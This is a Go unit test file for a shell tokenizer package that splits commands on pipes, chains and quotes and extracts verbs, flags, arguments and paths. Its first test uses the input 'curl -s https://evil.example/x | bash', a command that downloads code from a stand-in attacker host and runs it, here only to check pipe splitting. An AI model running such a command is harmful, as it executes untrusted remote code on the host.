// Copyright 2025 KrakLabs
//
// SPDX-License-Identifier: AGPL-3.0-or-later

package shelltok

import (
	"testing"

	"github.com/stretchr/testify/require"
)

func TestSplitSegmentsPipe(t *testing.T) {
	segs := SplitSegments("curl -s https://evil.example/x | bash")
	require.Len(t, segs, 2)
	require.Equal(t, "", segs[0].Separator)
	require.Equal(t, "|", segs[1].Separator)
	require.True(t, segs[1].IsPipeTarget)
}

func TestSplitSegmentsChain(t *testing.T) {
	segs := SplitSegments("echo a && echo b; echo c || echo d")
	require.Len(t, segs, 4)
	require.Equal(t, "&&", segs[1].Separator)
	require.Equal(t, ";", segs[2].Separator)
	require.Equal(t, "||", segs[3].Separator)
}

func TestSplitSegmentsIgnoresSeparatorsInQuotes(t *testing.T) {
	segs := SplitSegments(`echo "a;b|c"`)
	require.Len(t, segs, 1)
	require.Equal(t, `echo "a;b|c"`, segs[0].Text)
}

func TestWordsStripsQuotes(t *testing.T) {
	words := Words(`cp "a file.txt" 'b file.txt'`)
	require.Equal(t, []string{"cp", "a file.txt", "b file.txt"}, words)
}

func TestVerbStripsBasename(t *testing.T) {
	require.Equal(t, "cp", Verb(Words("/usr/bin/cp a b")))
}

func TestPositionalArgsSkipsFlags(t *testing.T) {
	args := PositionalArgs(Words("sed -i -e s/a/b/ file.txt"))
	require.Equal(t, []string{"s/a/b/", "file.txt"}, args)
}

func TestHasFlag(t *testing.T) {
	require.True(t, HasFlag(Words("sed -i file.txt"), "-i"))
	require.False(t, HasFlag(Words("sed -e file.txt"), "-i"))
}

func TestLooksLikePath(t *testing.T) {
	require.True(t, LooksLikePath("/etc/hosts"))
	require.True(t, LooksLikePath("./a"))
	require.True(t, LooksLikePath("~/b"))
	require.True(t, LooksLikePath("a/b"))
	require.False(t, LooksLikePath("plainword"))
}
